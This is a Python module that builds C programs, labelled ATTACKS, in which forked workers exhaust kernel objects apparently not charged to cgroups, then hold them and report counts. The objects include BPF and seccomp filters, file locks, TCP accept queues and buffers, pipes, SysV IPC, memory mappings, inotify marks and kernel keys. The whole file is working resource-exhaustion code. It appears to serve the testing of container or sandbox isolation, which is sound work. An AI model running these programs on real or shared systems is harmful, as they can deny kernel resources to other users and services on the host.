"""Programs that take what the kernel may not charge to any cell: eight processes each take one more of its kind until it is
refused or a second is over, then hold it. Each program prints "COUNT ERRNO": how many it got, and why no more."""

HEAD = r"""
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <mqueue.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/eventfd.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/timerfd.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>
#define WORKERS 8
#define FDS 500
static int worker;
static char big[1 << 16];
static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
/* A file of the worker's own, the i-th. */
static int file(long i) { char p[64]; snprintf(p, sizeof p, "/tmp/f-%d-%ld", worker, i); return open(p, O_RDWR | O_CREAT, 0600); }
"""

TAIL = r"""
struct told { volatile long count; volatile int error; };
int main(void) {
    struct told *told = mmap(0, 65536, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    int done[2], hold[2];
    if (pipe(done) || pipe(hold)) return 1;
    for (worker = 0; worker < WORKERS; worker++)
        if (fork() == 0) {
            double end = now() + SECONDS;
            long i = 0;
            close(hold[1]);
            prepare();
            while (now() < end) {
                errno = 0;
                if (take(i) < 0) { told[worker].error = errno; break; }
                told[worker].count = ++i;
            }
            close(done[1]);
            write(done[1], "x", 1);
            read(hold[0], big, 1);
            _exit(0);
        }
    close(done[1]);
    read(done[0], big, 1); /* until each has closed it */
    long count = 0;
    int error = 0;
    for (worker = 0; worker < WORKERS; worker++) { count += told[worker].count; error = error ? error : told[worker].error; }
    printf("%ld %s\n", count, error ? strerrorname_np(error) : "-");
    fflush(stdout);
    usleep(HOLD_MS * 1000);
    return 0;
}
"""

TCP = r"""
static int at, listeners[FDS], ports[FDS];
static int listen_one(void) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t len = sizeof a;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd < 0 || bind(fd, (void *)&a, sizeof a) < 0 || listen(fd, 65535) < 0) return -1;
    getsockname(fd, (void *)&a, &len);
    return listeners[at] = fd, ports[at++] = a.sin_port, 0;
}
static int dial(int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK), .sin_port = port};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    if (fd < 0) return -1;
    if (connect(fd, (void *)&a, sizeof a) < 0 && errno != EINPROGRESS) return close(fd), -1;
    return fd;
}
"""

NONE = "static void prepare(void) {}\n"
SOCKET = "static int s; static void prepare(void) { s = socket(AF_INET, SOCK_STREAM, 0); }\n"
SOCKET6 = "static int s; static void prepare(void) { s = socket(AF_INET6, SOCK_STREAM, 0); }\n"


def one(body, prepare=NONE):
    return prepare + "static long take(long i) { (void)i; " + body + " }\n"


def option(level, name, value="int v = 1;", size="sizeof v", family="AF_INET"):
    """A new socket with the option set on it; after that the option is set again each time."""
    return one(f"{value} int s = socket({family}, SOCK_STREAM, 0); if (s < 0 && errno == EMFILE) s = 3 + (int)(i % FDS);"
               f" return setsockopt(s, {level}, {name}, &v, {size});")


FILTER = ("static struct sock_filter f[4096]; for (int k = 0; k < 4095; k++) f[k] = (struct sock_filter){BPF_ALU | BPF_ADD "
          "| BPF_K, 0, 0, 1}; f[4095] = (struct sock_filter){BPF_RET | BPF_K, 0, 0, 0x7fff0000}; struct sock_fprog v = "
          "{4096, f};")

ATTACKS = {
    # filters: programs of the kernel's, and machine code made of them
    "socket_filter": option("SOL_SOCKET", "SO_ATTACH_FILTER", FILTER),
    "reuseport_filter": option("SOL_SOCKET", "51", FILTER),
    "unix_filter": option("SOL_SOCKET", "SO_ATTACH_FILTER", FILTER, family="AF_UNIX"),
    "seccomp": one(FILTER + " return syscall(SYS_seccomp, 1, 0, &v);"),
    "seccomp_prctl": one(FILTER + " return prctl(PR_SET_SECCOMP, 2, &v, 0, 0);"),
    # locks
    "ofd_locks": one("static int fd; if (i % 400 == 0) fd = file(i / 400); "
                     "struct flock l = {.l_type = F_RDLCK, .l_start = 2 * (i % 400), .l_len = 1}; "
                     "return fcntl(fd, F_OFD_SETLK, &l);"),
    "posix_locks": one("static int fd; if (i % 2000 == 0) fd = file(i / 2000); "
                       "struct flock l = {.l_type = F_RDLCK, .l_start = 1000000 - 2 * (i % 2000), .l_len = 1}; "
                       "return fcntl(fd, F_SETLK, &l);"),
    "many_locks": one("static int fds[400]; int k = (int)(i % 400); if (!fds[k]) fds[k] = file(k); "
                      "struct flock l = {.l_type = F_WRLCK, .l_start = 10000000 - 2 * (i / 400), .l_len = 1}; "
                      "return fcntl(fds[k], F_SETLK, &l);"),
    "hidden_locks": one("static int fds[400]; int k = (int)(i % 400); if (!fds[k]) fds[k] = file(k); "
                        "struct flock l = {.l_type = F_WRLCK, .l_start = 10000000 - 2 * (i / 400), .l_len = 1}; "
                        "return fcntl(fds[k], F_SETLK, &l);", "static void prepare(void) { prctl(PR_SET_DUMPABLE, 0); }\n"),
    "flocks": one("int fd = file(i % 8); return fd < 0 ? -1 : flock(fd, LOCK_SH);"),
    "leases": one("int fd = file(i); return fd < 0 ? -1 : fcntl(fd, F_SETLEASE, F_WRLCK);"),
    "dnotify": one("int fd = open(\"/tmp\", O_RDONLY); return fd < 0 ? -1 : fcntl(fd, 1026, 0x8000003f);"),
    # what waits to be read, accepted or collected
    "accept_queue": TCP + one("int fd = dial(ports[0]); if (fd >= 0) close(fd); return fd < 0 && errno != EAGAIN ? -1 : 0;",
                              "static void prepare(void) { listen_one(); }\n"),
    "accept_queues": TCP + one("int fd = dial(ports[i % at]); if (fd >= 0) close(fd); "
                               "return fd < 0 && errno != EAGAIN ? -1 : 0;",
                               "static void prepare(void) { for (int i = 0; i < 400; i++) listen_one(); }\n"),
    "accept_data": TCP + one("int fd = dial(ports[i % at]); if (fd >= 0) { write(fd, big, sizeof big); close(fd); } "
                             "return fd < 0 && errno != EAGAIN ? -1 : 0;",
                             "static void prepare(void) { for (int i = 0; i < 400; i++) listen_one(); }\n"),
    "tcp_buffers": TCP + one("int fd = dial(ports[0]); if (fd < 0) return errno == EAGAIN ? 0 : -1; int b = accept4(listeners[0], 0, 0, "
                             "SOCK_NONBLOCK); if (b < 0) return -1; while (write(fd, big, sizeof big) > 0); "
                             "while (write(b, big, sizeof big) > 0); return 0;",
                             "static void prepare(void) { listen_one(); }\n"),
    "time_wait": TCP + one("int fd = dial(ports[0]); int b = accept(listeners[0], 0, 0); close(fd); close(b); "
                           "return fd < 0 && errno != EAGAIN ? -1 : 0;", "static void prepare(void) { listen_one(); }\n"),
    "unix_buffers": one("int p[2]; if (socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, p)) return -1; "
                        "while (write(p[0], big, 1000) > 0); return 0;"),
    "unix_accept": one("static int l; static struct sockaddr_un a = {AF_UNIX, \"\"}; socklen_t n = sizeof a; "
                       "if (!l) { l = socket(AF_UNIX, SOCK_STREAM, 0); sprintf(a.sun_path + 1, \"q%d\", worker); "
                       "bind(l, (void *)&a, n); listen(l, 65535); } int s = socket(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0); "
                       "if (s < 0) return -1; int r = connect(s, (void *)&a, n); close(s); return r;"),
    "in_flight": one("static int p[2]; if (i % 200 == 0 && socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, p)) return -1;"
                     "int fd = eventfd(0, 0); if (fd < 0) return -1; char c[64] = {0}; struct iovec v = {big, 1};"
                     "struct msghdr m = {.msg_iov = &v, .msg_iovlen = 1, .msg_control = c, .msg_controllen = CMSG_SPACE(4)};"
                     "struct cmsghdr *h = CMSG_FIRSTHDR(&m); h->cmsg_level = SOL_SOCKET; h->cmsg_type = SCM_RIGHTS;"
                     "h->cmsg_len = CMSG_LEN(4); memcpy(CMSG_DATA(h), &fd, 4); long r = sendmsg(p[0], &m, 0); close(fd);"
                     "return r < 0 && errno == EAGAIN ? (i = 0, 0) : r;"),
    "pipes": one("int p[2]; if (pipe2(p, O_NONBLOCK)) return -1; fcntl(p[1], F_SETPIPE_SZ, 1 << 20); "
                 "while (write(p[1], big, sizeof big) > 0); return 0;"),
    "pipe_slots": one("int p[2]; if (pipe2(p, O_NONBLOCK)) return -1; fcntl(p[1], F_SETPIPE_SZ, 1 << 20); return 0;"),
    "signals": one("union sigval v = {0}; return sigqueue(getpid(), SIGRTMIN, v);",
                   "static void prepare(void) { sigset_t s; sigfillset(&s); sigprocmask(SIG_BLOCK, &s, 0); }\n"),
    "timers": one("timer_t t; struct sigevent e = {.sigev_notify = SIGEV_NONE}; return timer_create(CLOCK_MONOTONIC, &e, &t);"),
    # descriptors of the kernel's own
    "epoll": one("static int e[100], n; if (n < 100) e[n++] = epoll_create1(0); static int fds[300]; "
                 "int k = (int)(i % 300); if (!fds[k]) { fds[k] = eventfd(0, 0); if (fds[k] < 0) return -1; } "
                 "struct epoll_event v = {EPOLLIN, {0}}; int r = epoll_ctl(e[i / 300 % n], EPOLL_CTL_ADD, fds[k], &v);"
                 "return r < 0 && errno == EEXIST ? -1 : r;"),
    "timerfds": one("int fd = timerfd_create(CLOCK_MONOTONIC, 0); struct itimerspec t = {{9, 9}, {9, 9}}; "
                    "return fd < 0 ? -1 : timerfd_settime(fd, 0, &t, 0);"),
    "signalfds": one("sigset_t s; sigfillset(&s); return signalfd(-1, &s, 0);"),
    "memfds": one("return memfd_create(\"x\", 0);"),
    "inotify_marks": one("static int fd; if (i == 0) fd = inotify_init(); close(file(i)); char p[64]; "
                         "snprintf(p, sizeof p, \"/tmp/f-%d-%ld\", worker, i); return inotify_add_watch(fd, p, IN_ALL_EVENTS);"),
    "inotify_events": one("char p[64]; if (i % 2) close(file(i % 100)); else { snprintf(p, sizeof p, \"/tmp/f-%d-%ld\", "
                          "worker, (i + 1) % 100); unlink(p); } return 0;",
                          "static void prepare(void) { for (int i = 0; i < 15; i++) "
                          "inotify_add_watch(inotify_init(), \"/tmp\", IN_ALL_EVENTS); }\n"),
    "ptys": one("int fd = open(\"/dev/ptmx\", O_RDWR | O_NOCTTY); if (fd < 0) return -1; int z = 0; char p[32]; "
                "ioctl(fd, TIOCSPTLCK, &z); ioctl(fd, TIOCGPTN, &z); snprintf(p, sizeof p, \"/dev/pts/%d\", z); "
                "int t = open(p, O_RDWR | O_NOCTTY | O_NONBLOCK); if (t >= 0) write(t, big, 65536); return 0;"),
    # options of sockets
    "flow_labels": one("struct { struct in6_addr a; uint32_t l; uint8_t act, share; uint16_t fl, ex, li; uint32_t pad; } r = "
                       "{IN6ADDR_LOOPBACK_INIT, htonl((uint32_t)(i * 8 + worker + 1)), 0, 255, 1, 60, 60, 0}; "
                       "return setsockopt(s, IPPROTO_IPV6, 32, &r, sizeof r);", SOCKET6),
    "multicast4": one("struct ip_mreqn m = {{htonl(0xe0000100u + (uint32_t)i)}, {htonl(INADDR_LOOPBACK)}, 1}; "
                      "static int s; if (i % 19 == 0) s = socket(AF_INET, SOCK_STREAM, 0); if (s < 0) return -1; "
                      "return setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof m);"),
    "multicast6": one("struct ipv6_mreq m = {.ipv6mr_interface = 1}; m.ipv6mr_multiaddr.s6_addr[0] = 0xff; "
                      "m.ipv6mr_multiaddr.s6_addr[1] = 1; memcpy(m.ipv6mr_multiaddr.s6_addr + 8, &i, 8); "
                      "return setsockopt(s, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &m, sizeof m);", SOCKET6),
    "ip_options": option("IPPROTO_IP", "IP_OPTIONS", "char v[40]; memset(v, 1, 40);"),
    "ulp": option("IPPROTO_TCP", "31", 'char v[4] = "tls";'),
    "md5": option("IPPROTO_TCP", "TCP_MD5SIG", "char v[216] = {2, 0};"),
    "fastopen": option("IPPROTO_TCP", "TCP_FASTOPEN", "int v = 65535;"),
    "fastopen_key": option("IPPROTO_TCP", "33", "char v[16] = {1};"),
    "repair": option("IPPROTO_TCP", "19"),
    "iptables": option("IPPROTO_IP", "64", "char v[84] = {0};"),
    "ip6tables": option("IPPROTO_IPV6", "64", "char v[84] = {0};", family="AF_INET6"),
    "lock_filter": option("SOL_SOCKET", "SO_LOCK_FILTER"),
    "timestamping": option("SOL_SOCKET", "SO_TIMESTAMPING", "int v = 0x7f;"),
    "zerocopy": option("SOL_SOCKET", "SO_ZEROCOPY"),
    "mptcp": one("return socket(AF_INET, SOCK_STREAM, 262);"),
    "udp": one("return socket(AF_INET, SOCK_DGRAM, 0);"),
    # IPC
    "sysv_messages": one("static int q; if (i % 16 == 0) q = msgget(IPC_PRIVATE, 0600); if (q < 0) return -1; "
                         "struct { long t; char b[1000]; } m = {1, {0}}; int r = msgsnd(q, &m, 1000, IPC_NOWAIT); "
                         "return r < 0 && errno == EAGAIN ? 0 : r;"),
    "sysv_semaphores": one("return semget(IPC_PRIVATE, 250, 0600);"),
    "sysv_undo": one("static int q[100]; int k = (int)(i % 100); if (i < 100 && (q[k] = semget(IPC_PRIVATE, 250, 0600)) < 0) "
                     "return -1; struct sembuf b = {(unsigned short)(i / 100 % 250), 1, SEM_UNDO}; return semop(q[k], &b, 1);"),
    "sysv_segments": one("return shmget(IPC_PRIVATE, 4096, 0600);"),
    "posix_queues": one("char p[32]; snprintf(p, 32, \"/q%d-%ld\", worker, i); struct mq_attr a = {0, 10, 8192, 0}; "
                        "return mq_open(p, O_CREAT | O_RDWR, 0600, &a);"),
    # memory's own books
    "vmas": one("return (long)mmap(0, 4096, i % 2 ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);"),
    "vma_names": one("static char *m; if (!m) m = mmap(0, 1l << 28, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); "
                     "char n[80]; memset(n, 'x', 80); snprintf(n, 70, \"%060ld\", i); if (i >= 60000) return -1; "
                     "return prctl(0x53564d41, 0, m + 4096 * i, 4096, n);"),
    "page_tables": one("char *p = mmap(0, 1l << 21, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); "
                       "return p == MAP_FAILED ? -1 : (*(volatile char *)p, 0);"),
    "policies": one("unsigned long n = 1; char *p = mmap(0, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); "
                    "return syscall(SYS_mbind, p, 4096, 2, &n, 8, 0);"),
    "userfaultfds": one("return syscall(SYS_userfaultfd, 0);"),
    "threads": one("static char st[64][16384]; return syscall(SYS_clone, 0x50f00, st[i % 64] + 16384, 0, 0, 0) ?: (pause(), 0);"),
    "robust_futex": one("static int w; return syscall(SYS_futex, &w, 128 | 1, 0, 0, 0, 0);"),
    # names and files
    "negative_names": one("char p[300]; memset(p, 'n', 300); snprintf(p, 290, \"/tmp/%0240ld-%d\", i, worker); p[250] = 0; access(p, 0); return 0;"),
    "negative_images": one("char p[300]; snprintf(p, 290, \"/usr/%0240ld-%d\", i, worker); access(p, 0); return 0;"),
    "negative_proc": one("char p[64]; snprintf(p, 64, \"/proc/self/fd/%ld\", i); access(p, 0); return 0;"),
    "files": one("int fd = file(i); close(fd); return fd;"),
    "xattrs": one("static int fd; if (i == 0) fd = file(0); char n[32]; snprintf(n, 32, \"user.x%ld\", i); "
                  "return fsetxattr(fd, n, big, 60000, 0);"),
    "handles": one("char h[144] = {128}; int m; return syscall(SYS_open_by_handle_at, AT_FDCWD, h, 0);"),
    "fanotify": one("return syscall(SYS_fanotify_init, 0x200, 0);"),
    "keys": one("char n[32]; snprintf(n, 32, \"k%d-%ld\", worker, i); return syscall(SYS_add_key, \"user\", n, big, 4000, -3);"),
    "aio": one("void *c = 0; return syscall(SYS_io_setup, 128, &c);"),
    "landlock": one("uint64_t a[1] = {0x1fff}; return syscall(444, a, 8, 0);"),
    "core_scheduling": one("return prctl(62, 1, 0, 0, 0);"),
    "proc_files": one("return open(\"/proc/self/mountinfo\", O_RDONLY) < 0 ? -1 : 0;"),
}


def program(name, seconds=1.0, hold_ms=400):
    return (HEAD + ATTACKS[name] + TAIL).replace("SECONDS", str(seconds)).replace("HOLD_MS", str(hold_ms))


def first_of_each(names):
    """One program that tries each attack once and prints a line "NAME COUNT ERRNO" each. They may not share a helper."""
    parts, calls = [HEAD], []
    for name in names:
        parts.append(f"#define take take_{name}\n#define prepare prepare_{name}\n#define s s_{name}\n{ATTACKS[name]}\n"
                     "#undef take\n#undef prepare\n#undef s\n")
        calls.append(f'if (fork() == 0) {{ prepare_{name}(); errno = 0; int got = take_{name}(0) >= 0; '
                     f'printf("{name} %d %s\\n", got, errno ? strerrorname_np(errno) : "-"); fflush(stdout); _exit(0); }} '
                     "wait(0);")
    return "".join(parts) + "int main(void) {\n" + "\n".join(calls) + "\nreturn 0; }\n"
